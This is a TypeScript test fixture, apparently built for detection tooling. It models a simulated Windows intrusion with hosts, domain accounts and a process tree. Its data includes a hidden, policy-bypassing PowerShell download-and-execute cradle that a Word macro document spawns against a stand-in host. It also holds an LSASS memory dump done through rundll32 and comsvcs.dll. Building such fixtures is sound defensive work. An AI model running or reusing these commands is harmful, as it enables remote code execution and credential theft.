/** The machines, accounts and processes of the story the fixtures tell. */
import { type Account, encodedCommand, type Host, type Process, SYSTEM } from "./fixture_hosts.ts";

const DOMAIN_SID = "S-1-5-21-1223297778-3299746493-1462173606";
export const SYSTEM32 = "C:\\Windows\\System32";
export const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
export const DOWNLOAD =
  "IEX (New-Object Net.WebClient).DownloadString('http://updates.example.net/stage.ps1')";

export const WS01: Host = { computer: "WS01.corp.example", domain: "CORP", address: "10.20.30.41" };
export const DC01: Host = { computer: "DC01.corp.example", domain: "CORP", address: "10.20.30.10" };
export const WS02: Host = { computer: "WS02.corp.example", domain: "CORP", address: "10.20.30.42" };
export const STAGER = { address: "203.0.113.66", name: "updates.example.net", port: 80 };
export const INTRANET = { address: "10.20.30.15", name: "intranet.corp.example", port: 443 };

export const ANNA: Account = {
  name: "anna.berg",
  domain: "CORP",
  sid: `${DOMAIN_SID}-1106`,
  logonId: 0x4530f0fn,
};
export const ADMIN: Account = {
  name: "Administrator",
  domain: "CORP",
  sid: `${DOMAIN_SID}-500`,
  logonId: 0x1136e95n,
};
export const HELPDESK: Account = {
  name: "svc_helpdesk",
  domain: "CORP",
  sid: `${DOMAIN_SID}-1190`,
  logonId: 0n,
};

/** A time on the day of the story. */
export function at(clock: string): string {
  return `2025-03-11T${clock}Z`;
}

export function microsoft(description: string): Pick<Process, "company" | "description"> {
  return { company: "Microsoft Corporation", description };
}

export const services: Process = {
  pid: 628,
  image: `${SYSTEM32}\\services.exe`,
  commandLine: `${SYSTEM32}\\services.exe`,
  user: SYSTEM,
  ...microsoft("Services and Controller app"),
};
export const lsass: Process = {
  pid: 648,
  image: `${SYSTEM32}\\lsass.exe`,
  commandLine: `${SYSTEM32}\\lsass.exe`,
  user: SYSTEM,
  ...microsoft("Local Security Authority Process"),
};
export const svchost: Process = {
  pid: 1188,
  image: `${SYSTEM32}\\svchost.exe`,
  commandLine: `${SYSTEM32}\\svchost.exe -k netsvcs -p -s Schedule`,
  user: SYSTEM,
  parent: services,
  ...microsoft("Host Process for Windows Services"),
};
export const defenderEngine: Process = {
  pid: 2716,
  image: "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MsMpEng.exe",
  commandLine: "MsMpEng.exe",
  user: SYSTEM,
  parent: services,
  ...microsoft("Antimalware Service Executable"),
};
export const explorer: Process = {
  pid: 4120,
  image: "C:\\Windows\\explorer.exe",
  commandLine: "C:\\Windows\\Explorer.EXE",
  user: ANNA,
  ...microsoft("Windows Explorer"),
};
export const browser: Process = {
  pid: 5012,
  image: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
  commandLine: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"',
  user: ANNA,
  parent: explorer,
  ...microsoft("Microsoft Edge"),
};
export const winword: Process = {
  pid: 5840,
  image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
  commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n ' +
    '"C:\\Users\\anna.berg\\Downloads\\invoice_0311.docm"',
  user: ANNA,
  parent: explorer,
  originalName: "WinWord.exe",
  ...microsoft("Microsoft Word"),
};
export const stager: Process = {
  pid: 6412,
  image: POWERSHELL,
  commandLine: `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encodedCommand(DOWNLOAD)}`,
  user: ANNA,
  parent: winword,
  originalName: "PowerShell.EXE",
  ...microsoft("Windows PowerShell"),
};

/** A console tool of System32 started by `parent`. */
export function tool(
  pid: number,
  name: string,
  line: string,
  parent: Process,
  user = ANNA,
): Process {
  return {
    pid,
    image: `${SYSTEM32}\\${name}`,
    commandLine: line,
    user,
    parent,
    ...(user === ADMIN || parent.integrity === "High" ? { integrity: "High" as const } : {}),
    ...microsoft(name),
  };
}

export const elevated: Process = {
  ...stager,
  pid: 7104,
  commandLine: "powershell.exe -NoP -W Hidden",
  parent: stager,
  integrity: "High",
};
export const dump = tool(
  7320,
  "rundll32.exe",
  `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 648 C:\\Windows\\Temp\\l.dmp full`,
  elevated,
);
export const CALL_TRACE = `${SYSTEM32}\\ntdll.dll+9d4c4|${SYSTEM32}\\KERNELBASE.dll+2c13e|`;
